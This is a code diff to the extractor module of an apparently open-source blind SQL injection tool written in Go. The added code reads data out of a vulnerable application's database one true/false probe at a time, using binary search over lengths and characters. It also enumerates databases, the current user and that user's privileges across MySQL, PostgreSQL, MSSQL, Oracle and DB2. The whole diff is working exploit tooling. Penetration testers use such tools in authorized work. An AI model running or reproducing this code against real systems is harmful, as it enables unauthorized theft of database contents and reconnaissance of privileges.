@@ -1,8 +1,11 @@
 package extractor
 
 import (
+	"errors"
 	"fmt"
+	"strconv"
 	"strings"
+	"time"
 
 	"github.com/morkin1792/flatsqli/internal/calibrator"
 	"github.com/morkin1792/flatsqli/internal/detector"
@@ -11,14 +14,32 @@ import (
 	"github.com/morkin1792/flatsqli/internal/ui"
 )
 
+// ErrNoData is returned when a query that must yield a value (e.g. the version)
+// comes out empty
+var ErrNoData = errors.New("no data extracted")
+
+// ErrUnsupportedDatabase is returned for operations without queries for the database type
+var ErrUnsupportedDatabase = errors.New("unsupported database type")
+
+// ErrInconsistent is returned when the answers to two probes contradict each other
+var ErrInconsistent = errors.New("inconsistent answers")
+
 // Extractor handles data extraction using boolean-based SQL injection
 type Extractor struct {
-	requester   *requester.Requester
-	calibration *calibrator.CalibrationResult
-	dbType      detector.DatabaseType
-	payloadGen  payloads.DatabasePayloads
-	verbose     bool
-	maxLen      int
+	requester    *requester.Requester
+	calibration  *calibrator.CalibrationResult
+	dbType       detector.DatabaseType
+	payloadGen   payloads.DatabasePayloads
+	verbose      bool
+	maxLen       int
+	minLen       int
+	charset      payloads.Charset
+	valueCharset payloads.ValueCharset
+	searchValue  bool // extracting a query result, where valueCharset applies
+	valueType    payloads.ValueType
+	variant      string
+	version      [2]int // major, minor (0 = unknown)
+	hex          bool   // extract the hex representation of values, see SetHex
 }
 
 // New creates a new Extractor
@@ -38,49 +59,145 @@ func (e *Extractor) SetMaxLen(maxLen int) {
 	e.maxLen = maxLen
 }
 
+// SetMinLen sets a known lower bound for extracted lengths (0 = none).
+// The empty-value check is skipped and the length search starts at minLen.
+func (e *Extractor) SetMinLen(minLen int) {
+	if minLen < 0 {
+		minLen = 0
+	}
+	e.minLen = minLen
+}
+
+// SetCharset sets the character range searched during extraction
+func (e *Extractor) SetCharset(charset payloads.Charset) {
+	e.charset = charset
+}
+
+// SetValueCharset narrows the search to the characters query results are known
+// to be made of, e.g. hex digits for hashes (empty = the whole charset range).
+// The version and names are still searched in the whole range.
+func (e *Extractor) SetValueCharset(set payloads.ValueCharset) {
+	e.valueCharset = set
+}
+
+// SetValueType sets how query results are read: as strings, as integers
+// searched directly, or checked first (auto)
+func (e *Extractor) SetValueType(valueType payloads.ValueType) {
+	e.valueType = valueType
+}
+
+// SetHex extracts values through their hex representation, so every probed
+// character is a hex digit. Slower (2x the characters) but safe for binary and
+// multibyte data.
+func (e *Extractor) SetHex(enabled bool) {
+	e.hex = enabled
+}
+
+// SetVariant sets the detected dialect variant (e.g. cockroachdb)
+func (e *Extractor) SetVariant(variant string) {
+	e.variant = variant
+}
+
+// SetVersion sets the database version, so row queries can use the paging
+// syntax it supports (0 = unknown, assumes a modern version)
+func (e *Extractor) SetVersion(major, minor int) {
+	e.version = [2]int{major, minor}
+}
+
+// legacyPaging reports whether the database predates OFFSET ... FETCH
+// (SQL Server 2012 is 11.0, DB2 supports it since 11.1)
+func (e *Extractor) legacyPaging() bool {
+	major, minor := e.version[0], e.version[1]
+	switch {
+	case major == 0:
+		return false
+	case e.dbType == detector.MSSQL:
+		return major < 11
+	case e.dbType == detector.DB2:
+		return detector.CompareVersion(major, minor, 0, 11, 1, 0) < 0
+	}
+	return false
+}
+
 // ExtractQuery extracts the result of a custom SQL query
 func (e *Extractor) ExtractQuery(query string) (string, error) {
 	if e.payloadGen == nil {
-		return "", fmt.Errorf("no payload generator available for database type: %s", e.dbType)
+		return "", fmt.Errorf("%w: %s", ErrUnsupportedDatabase, e.dbType)
 	}
 
 	ui.Verbose(e.verbose, "Extracting query: %s", query)
 
+	switch e.valueType {
+	case payloads.ValueInt:
+		return e.ExtractNumber(query)
+	case payloads.ValueAuto:
+		isInt, err := e.calibration.Probe(e.requester, payloads.IntegerCheck(e.payloadGen, query))
+		if err != nil {
+			return "", err
+		}
+		if isInt {
+			return e.ExtractNumber(query)
+		}
+	}
+
+	e.searchValue = true
+	defer func() { e.searchValue = false }()
 	return e.extractString(query)
 }
 
+// ExtractNumber extracts an integer query result by searching its value with
+// (query)>n, skipping the length and per-character probes. NULL comes out empty.
+func (e *Extractor) ExtractNumber(query string) (string, error) {
+	value, null, err := payloads.SearchInteger(func(n int) (bool, error) {
+		return e.calibration.Probe(e.requester, e.payloadGen.GetComparisonPayload(query, n))
+	}, func() (bool, error) {
+		return e.calibration.Probe(e.requester, payloads.NullPayload(query))
+	})
+	if err != nil || null {
+		return "", err
+	}
+	ui.Verbose(e.verbose, "Integer value: %d", value)
+	return strconv.Itoa(value), nil
+}
+
 // ExtractVersion extracts the database version
 func (e *Extractor) ExtractVersion() (string, error) {
 	if e.payloadGen == nil {
-		return "", fmt.Errorf("no payload generator available for database type: %s", e.dbType)
+		return "", fmt.Errorf("%w: %s", ErrUnsupportedDatabase, e.dbType)
 	}
 
 	queries := e.payloadGen.GetVersionQueries()
 	if len(queries) == 0 {
-		return "", fmt.Errorf("no version queries available for database type: %s", e.dbType)
+		return "", fmt.Errorf("%w: no version queries for %s", ErrUnsupportedDatabase, e.dbType)
 	}
 
 	var bestVersion string
 
-	// Try each version query
+	// Try each version query, combining what they return
 	for _, query := range queries {
 		ui.Verbose(e.verbose, "Trying version query: %s", query)
 
 		version, err := e.extractString(query)
-
-		// Keep the longest version found
-		if len(version) > len(bestVersion) {
-			bestVersion = version
+		if !detector.PlausibleVersion(version) {
+			ui.Verbose(e.verbose, "Garbled version %q, trying the next query", version)
+			continue
 		}
-
 		if err != nil {
 			ui.Verbose(e.verbose, "Query failed/incomplete: %v", err)
+			// A partial result never overrides a conflicting earlier one
+			bestVersion = detector.MergeVersions(e.dbType, version, bestVersion)
 			continue
 		}
-
-		if version != "" {
-			return version, nil
+		bestVersion = detector.MergeVersions(e.dbType, bestVersion, version)
+		if version == "" {
+			ui.Verbose(e.verbose, "Empty version, trying the next query")
+			continue
+		}
+		if !detector.HasVersion(e.dbType, version) {
+			ui.Verbose(e.verbose, "No version number in %q, trying the next query", version)
+			continue
 		}
+		return bestVersion, nil
 	}
 
 	if bestVersion != "" {
@@ -88,13 +205,47 @@ func (e *Extractor) ExtractVersion() (string, error) {
 		return bestVersion, nil
 	}
 
-	return "", fmt.Errorf("could not extract version")
+	return "", fmt.Errorf("could not extract version: %w", ErrNoData)
 }
 
 // extractString extracts a string value using binary search
-func (e *Extractor) extractString(query string) (string, error) {
+func (e *Extractor) extractString(query string) (value string, err error) {
+	usage := e.requester.StartUsage()
+	defer func() { e.logCost(usage, value) }()
+
+	if !e.hex {
+		value, err = e.extractChars(query, e.minLen, e.maxLen)
+		return e.decodeBytes(value), err
+	}
+
+	scale := payloads.HexDigitsPerChar(e.payloadGen.GetType())
+	encoded, err := e.extractChars(e.payloadGen.GetHexQuery(query), e.minLen*scale, e.maxLen*scale)
+	value, decodeErr := payloads.DecodeHex(e.payloadGen.GetType(), encoded)
+	if err == nil {
+		err = decodeErr
+	}
+	return value, err
+}
+
+// logCost reports in verbose mode the requests and time a value took, to tell
+// expensive values apart and see what prediction saves
+func (e *Extractor) logCost(usage requester.Usage, value string) {
+	if !e.verbose {
+		return
+	}
+	requests, elapsed := e.requester.Cost(usage)
+	perChar := 0.0
+	if n := len([]rune(value)); n > 0 {
+		perChar = float64(requests) / float64(n)
+	}
+	ui.Verbose(e.verbose, "Extracted %q in %d requests (%.1f per char), %s", value, requests, perChar, elapsed.Round(time.Millisecond))
+}
+
+// extractChars extracts the characters of a query result, between minLen and
+// maxLen (0 = no limit) long
+func (e *Extractor) extractChars(query string, minLen, maxLen int) (string, error) {
 	// First, find the length
-	length, err := e.findLength(query)
+	length, err := e.findLength(query, minLen, maxLen)
 	if err != nil {
 		return "", fmt.Errorf("failed to find length: %w", err)
 	}
@@ -104,15 +255,15 @@ func (e *Extractor) extractString(query string) (string, error) {
 	}
 
 	// Apply max length limit if set
-	if e.maxLen > 0 && length > e.maxLen {
-		ui.Verbose(e.verbose, "String length %d exceeds max %d, capping", length, e.maxLen)
-		length = e.maxLen
+	if maxLen > 0 && length > maxLen {
+		ui.Verbose(e.verbose, "String length %d exceeds max %d, capping", length, maxLen)
+		length = maxLen
 	}
 
 	ui.Verbose(e.verbose, "String length: %d", length)
 
 	// Extract each character using prefix-based optimization
-	result := make([]byte, 0, length)
+	result := make([]rune, 0, length)
 	for i := 1; i <= length; i++ {
 		char, err := e.findCharWithPrefixes(query, i, string(result))
 		if err != nil {
@@ -133,68 +284,131 @@ func (e *Extractor) extractString(query string) (string, error) {
 }
 
 // findLength finds the length of a query result using binary search
-func (e *Extractor) findLength(query string) (int, error) {
-	low := 0
+func (e *Extractor) findLength(query string, minLen, maxLen int) (int, error) {
+	low := minLen
 	high := 1024 // Max length to search
 
-	// First, check if there's any data at all
-	payload := e.payloadGen.GetLengthPayload(query, 0) // LENGTH > 0
-	resp, err := e.requester.Send(payload)
-	if err != nil {
-		return 0, err
+	// Lengths above maxLen are capped anyway, no need to search past it
+	if maxLen > 0 && maxLen < high {
+		high = maxLen
 	}
+	if low > high {
+		low = high
+	}
+
+	// First, check if there's any data at all (implied by a known minimum length)
+	hasData := low > 0
+	if !hasData {
+		payload := e.charset.LengthPayload(e.payloadGen, query, 0) // LENGTH > 0
+		isTrue, err := e.calibration.Probe(e.requester, payload)
+		if err != nil {
+			return 0, err
+		}
 
-	if !e.calibration.IsTrue(resp.Fingerprint) {
-		return 0, nil // No data
+		if !isTrue {
+			return 0, nil // No data
+		}
+		hasData = true
 	}
 
 	// Binary search for the exact length
 	for low < high {
 		mid := (low + high + 1) / 2
-		payload := e.payloadGen.GetLengthPayload(query, mid-1) // LENGTH > mid-1
+		payload := e.charset.LengthPayload(e.payloadGen, query, mid-1) // LENGTH > mid-1
 
-		resp, err := e.requester.Send(payload)
+		isTrue, err := e.calibration.Probe(e.requester, payload)
 		if err != nil {
 			return 0, err
 		}
 
-		if e.calibration.IsTrue(resp.Fingerprint) {
+		if isTrue {
 			low = mid
 		} else {
 			high = mid - 1
 		}
 	}
 
+	// LENGTH > 0 held, a search ending at 0 means a probe was misjudged
+	if hasData && low == 0 {
+		return 0, fmt.Errorf("%w: LENGTH > 0 but the length search found 0", ErrInconsistent)
+	}
+
 	return low, nil
 }
 
 // findChar finds a character at a position using binary search
-func (e *Extractor) findChar(query string, pos int) (byte, error) {
-	low := 32   // Space (printable ASCII start)
-	high := 126 // ~ (printable ASCII end)
+func (e *Extractor) findChar(query string, pos int) (rune, error) {
+	if e.searchValue && len(e.valueCharset) > 0 && !e.hex {
+		return e.valueCharset.Search(func(n int) (bool, error) {
+			return e.calibration.Probe(e.requester, e.charPayload(query, pos, n))
+		})
+	}
+
+	low, high := e.charset.Bounds()
+	if e.hex {
+		low, high = payloads.HexLow, payloads.HexHigh
+	}
+
+	// Multibyte chars have code points above the byte range
+	if e.charset.Multibyte() && e.codePoints() {
+		isTrue, err := e.calibration.Probe(e.requester, e.payloadGen.GetCodePayload(query, pos, high))
+		if err != nil {
+			return 0, err
+		}
+		if isTrue {
+			low, high = high+1, payloads.MaxCodePoint
+		}
+	}
 
 	for low < high {
 		mid := (low + high + 1) / 2
-		payload := e.payloadGen.GetCharPayload(query, pos, mid-1) // ASCII > mid-1
+		payload := e.charPayload(query, pos, mid-1) // ASCII > mid-1
 
-		resp, err := e.requester.Send(payload)
+		isTrue, err := e.calibration.Probe(e.requester, payload)
 		if err != nil {
 			return 0, err
 		}
 
-		if e.calibration.IsTrue(resp.Fingerprint) {
+		if isTrue {
 			low = mid
 		} else {
 			high = mid - 1
 		}
 	}
 
-	return byte(low), nil
+	return rune(low), nil
+}
+
+// charPayload returns the char comparison payload for the configured charset
+func (e *Extractor) charPayload(query string, pos int, n int) string {
+	if e.codePoints() {
+		return e.payloadGen.GetCodePayload(query, pos, n)
+	}
+	return e.payloadGen.GetCharPayload(query, pos, n)
+}
+
+// codePoints reports whether characters are probed as code points
+func (e *Extractor) codePoints() bool {
+	return e.charset.UsesCodePoints() && !e.hex && payloads.ReadsCodePoints(e.payloadGen)
+}
+
+// decodeBytes decodes values read byte by byte where code points are not
+// available (see payloads.ReadsCodePoints)
+func (e *Extractor) decodeBytes(value string) string {
+	if e.charset.UsesCodePoints() && !payloads.ReadsCodePoints(e.payloadGen) {
+		return payloads.DecodeBytes(value)
+	}
+	return value
 }
 
 // findCharWithPrefixes tries to find a character using known version prefixes first,
 // then falls back to binary search if no prefix matches.
-func (e *Extractor) findCharWithPrefixes(query string, pos int, currentResult string) (byte, error) {
+func (e *Extractor) findCharWithPrefixes(query string, pos int, currentResult string) (rune, error) {
+	// Version prefixes never match hex digits
+	if e.hex {
+		return e.findChar(query, pos)
+	}
+
 	// Get candidate prefixes that match what we have so far
 	prefixes := payloads.GetVersionPrefixes(e.dbType.ToPayloadType())
 	var candidates []string
@@ -210,13 +424,13 @@ func (e *Extractor) findCharWithPrefixes(query string, pos int, currentResult st
 		for _, c := range uniqueChars {
 			// Try equality check: ASCII(char) = c
 			payload := e.payloadGen.GetEqualityPayload(query, pos, int(c))
-			resp, err := e.requester.Send(payload)
+			isTrue, err := e.calibration.Probe(e.requester, payload)
 			if err != nil {
 				// On error, fall back to binary search
 				return e.findChar(query, pos)
 			}
-			if e.calibration.IsTrue(resp.Fingerprint) {
-				return c, nil
+			if isTrue {
+				return rune(c), nil
 			}
 		}
 	}
@@ -268,15 +482,30 @@ func (e *Extractor) ExtractTable(table, column string, limit int) ([]string, err
 
 // buildRowQuery builds a query to extract a single row
 func (e *Extractor) buildRowQuery(table, column string, offset int) string {
+	if e.payloadGen != nil {
+		table, column = e.payloadGen.QuoteIdentifier(table), e.payloadGen.QuoteIdentifier(column)
+	}
 	switch e.dbType {
 	case detector.MySQL:
 		return fmt.Sprintf("SELECT %s FROM %s LIMIT 1 OFFSET %d", column, table, offset)
 	case detector.MSSQL:
+		if e.legacyPaging() {
+			return fmt.Sprintf("SELECT %s FROM (SELECT %s, ROW_NUMBER() OVER (ORDER BY (SELECT NULL)) rn FROM %s) x WHERE rn=%d", column, column, table, offset+1)
+		}
 		return fmt.Sprintf("SELECT %s FROM %s ORDER BY 1 OFFSET %d ROWS FETCH NEXT 1 ROWS ONLY", column, table, offset)
 	case detector.PostgreSQL:
 		return fmt.Sprintf("SELECT %s FROM %s LIMIT 1 OFFSET %d", column, table, offset)
 	case detector.Oracle:
-		return fmt.Sprintf("SELECT %s FROM (SELECT %s, ROWNUM rn FROM %s) WHERE rn=%d", column, column, table, offset+1)
+		// ROWNUM is assigned before ordering, ROWID gives a stable order instead
+		if e.version[0] >= 12 {
+			return fmt.Sprintf("SELECT %s FROM %s ORDER BY ROWID OFFSET %d ROWS FETCH NEXT 1 ROWS ONLY", column, table, offset)
+		}
+		return fmt.Sprintf("SELECT v FROM (SELECT %s v, ROW_NUMBER() OVER (ORDER BY ROWID) rn FROM %s) WHERE rn=%d", column, table, offset+1)
+	case detector.DB2:
+		if e.legacyPaging() {
+			return fmt.Sprintf("SELECT %s FROM (SELECT %s, ROW_NUMBER() OVER () rn FROM %s) x WHERE rn=%d", column, column, table, offset+1)
+		}
+		return fmt.Sprintf("SELECT %s FROM %s OFFSET %d ROWS FETCH FIRST 1 ROW ONLY", column, table, offset)
 	default:
 		return fmt.Sprintf("SELECT %s FROM %s LIMIT 1 OFFSET %d", column, table, offset)
 	}
@@ -293,15 +522,69 @@ func (e *Extractor) GetDatabaseName() (string, error) {
 		query = "SELECT DB_NAME()"
 	case detector.PostgreSQL:
 		query = "SELECT current_database()"
+		if e.variant == detector.VariantCockroachDB {
+			query = "SELECT current_setting('database')"
+		}
 	case detector.Oracle:
 		query = "SELECT ora_database_name FROM dual"
+	case detector.DB2:
+		query = "SELECT CURRENT SERVER FROM sysibm.sysdummy1"
 	default:
-		return "", fmt.Errorf("unsupported database type")
+		return "", ErrUnsupportedDatabase
 	}
 
 	return e.extractString(query)
 }
 
+// maxDatabases bounds ListDatabases on servers hosting many databases
+const maxDatabases = 200
+
+// ListDatabases extracts the names of the databases (schemas on PostgreSQL, Oracle
+// and DB2) visible to the current user, one name per offset until none is left
+func (e *Extractor) ListDatabases() ([]string, error) {
+	var names []string
+	for offset := 0; offset < maxDatabases; offset++ {
+		query, err := e.databaseAt(offset)
+		if err != nil {
+			return nil, err
+		}
+
+		name, err := e.extractString(query)
+		if err != nil {
+			return names, err
+		}
+		if name == "" {
+			return names, nil
+		}
+		names = append(names, name)
+		ui.Progress("Databases: %d found", len(names))
+	}
+	ui.Warning("Stopped listing databases after %d", maxDatabases)
+	return names, nil
+}
+
+// databaseAt returns the query for the name of the offset-th visible database
+func (e *Extractor) databaseAt(offset int) (string, error) {
+	switch e.dbType {
+	case detector.MySQL, detector.PostgreSQL:
+		return fmt.Sprintf("SELECT schema_name FROM information_schema.schemata ORDER BY schema_name LIMIT 1 OFFSET %d", offset), nil
+	case detector.MSSQL:
+		return fmt.Sprintf("SELECT name FROM (SELECT name, ROW_NUMBER() OVER (ORDER BY name) rn FROM sys.databases) x WHERE rn=%d", offset+1), nil
+	case detector.Oracle:
+		if e.version[0] >= 12 {
+			return fmt.Sprintf("SELECT username FROM all_users ORDER BY username OFFSET %d ROWS FETCH NEXT 1 ROWS ONLY", offset), nil
+		}
+		return fmt.Sprintf("SELECT username FROM (SELECT username, ROW_NUMBER() OVER (ORDER BY username) rn FROM all_users) WHERE rn=%d", offset+1), nil
+	case detector.DB2:
+		if e.legacyPaging() {
+			return fmt.Sprintf("SELECT schemaname FROM (SELECT schemaname, ROW_NUMBER() OVER (ORDER BY schemaname) rn FROM syscat.schemata) x WHERE rn=%d", offset+1), nil
+		}
+		return fmt.Sprintf("SELECT schemaname FROM syscat.schemata ORDER BY schemaname OFFSET %d ROWS FETCH FIRST 1 ROW ONLY", offset), nil
+	default:
+		return "", ErrUnsupportedDatabase
+	}
+}
+
 // GetCurrentUser extracts the current database user
 func (e *Extractor) GetCurrentUser() (string, error) {
 	var query string
@@ -315,9 +598,88 @@ func (e *Extractor) GetCurrentUser() (string, error) {
 		query = "SELECT current_user"
 	case detector.Oracle:
 		query = "SELECT user FROM dual"
+	case detector.DB2:
+		query = "SELECT CURRENT USER FROM sysibm.sysdummy1"
 	default:
-		return "", fmt.Errorf("unsupported database type")
+		return "", ErrUnsupportedDatabase
 	}
 
 	return e.extractString(query)
 }
+
+// maxPrivileges bounds GetPrivileges, a DBA holds a few hundred on Oracle
+const maxPrivileges = 300
+
+// GetPrivileges extracts the privileges and roles of the current user, one per
+// offset until none is left, e.g. "FILE ON *.*" on MySQL or "DBA" on Oracle
+func (e *Extractor) GetPrivileges() ([]string, error) {
+	set, err := e.privilegeSet()
+	if err != nil {
+		return nil, err
+	}
+
+	var privileges []string
+	for offset := 0; offset < maxPrivileges; offset++ {
+		privilege, err := e.extractString(e.privilegeAt(set, offset))
+		if err != nil {
+			return privileges, err
+		}
+		if privilege == "" {
+			return privileges, nil
+		}
+		privileges = append(privileges, privilege)
+		ui.Progress("Privileges: %d found", len(privileges))
+	}
+	ui.Warning("Stopped listing privileges after %d", maxPrivileges)
+	return privileges, nil
+}
+
+// db2Authorities are the SYSCAT.DBAUTH columns listed by GetPrivileges
+var db2Authorities = []string{"DBADM", "SECURITYADM", "DATAACCESS", "ACCESSCTRL", "SQLADM",
+	"CREATETAB", "BINDADD", "CONNECT", "NOFENCE", "IMPLSCHEMA", "LOAD", "EXTERNALROUTINE"}
+
+// privilegeSet returns a query whose column p holds one privilege per row
+func (e *Extractor) privilegeSet() (string, error) {
+	switch e.dbType {
+	case detector.MySQL:
+		// Grantees look like 'user'@'host', CURRENT_USER() like user@host
+		grantee := "CONCAT('''',REPLACE(CURRENT_USER(),'@','''@'''),'''')"
+		return fmt.Sprintf("SELECT CONCAT(privilege_type,' ON *.*') p FROM information_schema.user_privileges WHERE grantee=%s"+
+			" UNION SELECT CONCAT(privilege_type,' ON ',table_schema,'.*') FROM information_schema.schema_privileges WHERE grantee=%s",
+			grantee, grantee), nil
+	case detector.PostgreSQL:
+		return "SELECT 'SUPERUSER' p FROM pg_roles WHERE rolname=current_user AND rolsuper" +
+			" UNION SELECT 'CREATEROLE' FROM pg_roles WHERE rolname=current_user AND rolcreaterole" +
+			" UNION SELECT 'CREATEDB' FROM pg_roles WHERE rolname=current_user AND rolcreatedb" +
+			" UNION SELECT 'REPLICATION' FROM pg_roles WHERE rolname=current_user AND rolreplication" +
+			" UNION SELECT 'CREATE ON DATABASE' WHERE has_database_privilege(current_database(),'CREATE')" +
+			" UNION SELECT 'TEMP ON DATABASE' WHERE has_database_privilege(current_database(),'TEMP')" +
+			" UNION SELECT 'MEMBER OF '||r.rolname FROM pg_auth_members m JOIN pg_roles r ON r.oid=m.roleid" +
+			" JOIN pg_roles u ON u.oid=m.member WHERE u.rolname=current_user", nil
+	case detector.MSSQL:
+		return "SELECT permission_name+' ON SERVER' p FROM fn_my_permissions(NULL,'SERVER')" +
+			" UNION SELECT permission_name+' ON DATABASE' FROM fn_my_permissions(NULL,'DATABASE')", nil
+	case detector.Oracle:
+		return "SELECT privilege p FROM session_privs UNION SELECT 'ROLE '||role FROM session_roles", nil
+	case detector.DB2:
+		parts := make([]string, len(db2Authorities))
+		for i, auth := range db2Authorities {
+			parts[i] = fmt.Sprintf("SELECT '%s' p FROM syscat.dbauth WHERE grantee=CURRENT USER AND %sAUTH='Y'", auth, auth)
+		}
+		return strings.Join(parts, " UNION "), nil
+	default:
+		return "", ErrUnsupportedDatabase
+	}
+}
+
+// privilegeAt returns the query for the offset-th privilege of set, in order
+func (e *Extractor) privilegeAt(set string, offset int) string {
+	switch e.dbType {
+	case detector.MySQL, detector.PostgreSQL:
+		return fmt.Sprintf("SELECT p FROM (%s) x ORDER BY p LIMIT 1 OFFSET %d", set, offset)
+	case detector.Oracle:
+		return fmt.Sprintf("SELECT p FROM (SELECT p, ROW_NUMBER() OVER (ORDER BY p) rn FROM (%s)) WHERE rn=%d", set, offset+1)
+	default:
+		return fmt.Sprintf("SELECT p FROM (SELECT p, ROW_NUMBER() OVER (ORDER BY p) rn FROM (%s) s) x WHERE rn=%d", set, offset+1)
+	}
+}